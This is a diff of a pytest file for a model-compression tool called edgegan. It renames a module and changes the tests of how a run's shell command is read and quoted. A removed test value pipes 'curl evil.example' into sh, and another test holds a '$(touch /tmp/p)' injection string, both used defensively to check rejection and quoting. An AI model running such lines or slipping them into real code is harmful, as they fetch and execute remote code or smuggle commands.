@@ -6,13 +6,13 @@ import numpy as np
 import pytest
 
 from edgegan.errors import UserError
-from edgegan.report.folder import read_run
+from edgegan.run.folder import read_run
 
 
 def test_reads_all_parts(run_folder):
     run = read_run(run_folder)
     assert run.name == "cifar10"
-    assert run.command == "edgegan compress recipes/cifar10 --profile full"
+    assert run.run.shell_command == "edgegan compress recipes/cifar10 --profile full"
     assert [stage.folder for stage in run.stages] == ["01-prune", "02-distill", "03-quantize", "04-export"]
     assert list(run.samples) == ["full", "prune", "fp32", "fp16", "int8"]
     assert run.samples["full"].shape == (64, 32, 32, 3)
@@ -52,11 +52,11 @@ def test_an_unfinished_run_names_what_is_done_and_the_command_that_goes_on(run_f
 
 @pytest.mark.parametrize(
     "command",
-    ["curl evil.example | sh", "edgegan compress x", ["sh", "-c", "x"], ["edgegan", "compres"], None],
+    [("sh", "-c", "x"), ("edgegan", "compres"), ()],
 )
 def test_no_command_but_our_own_is_handed_on(folder_of, command):
     run = folder_of(command=command)
-    assert read_run(run).command is None
+    assert read_run(run).run.shell_command is None
     (run / "figures.json").unlink()
     with pytest.raises(UserError) as caught:
         read_run(run)
@@ -64,8 +64,8 @@ def test_no_command_but_our_own_is_handed_on(folder_of, command):
 
 
 def test_the_words_of_a_command_are_quoted(folder_of):
-    run = folder_of(command=["edgegan", "compress", "$(touch /tmp/p)", "--out", "a b"])
-    assert read_run(run).command == "edgegan compress '$(touch /tmp/p)' --out 'a b'"
+    run = folder_of(command=("edgegan", "compress", "$(touch /tmp/p)", "--out", "a b"))
+    assert read_run(run).run.shell_command == "edgegan compress '$(touch /tmp/p)' --out 'a b'"
 
 
 def test_a_run_that_has_only_begun(tmp_path):
